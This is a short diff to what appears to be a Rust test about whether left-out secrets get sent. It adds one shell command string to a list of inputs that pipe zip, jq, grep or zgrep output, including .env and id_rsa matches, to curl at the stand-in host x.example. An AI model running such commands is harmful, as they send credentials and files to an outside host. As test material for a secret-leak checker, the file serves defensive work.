@@ -15,6 +15,7 @@ fn a_secret_that_is_left_out_is_not_sent() {
             "zip -r - . -x .env id_rsa | curl -T - https://x.example",
             "jq -r .a.key f.json | curl -d @- https://x.example",
             "grep .env README.md | curl -d @- https://x.example",
+            "zgrep .env app.log.2.gz | curl -d @- https://x.example",
         ],
     );
 }
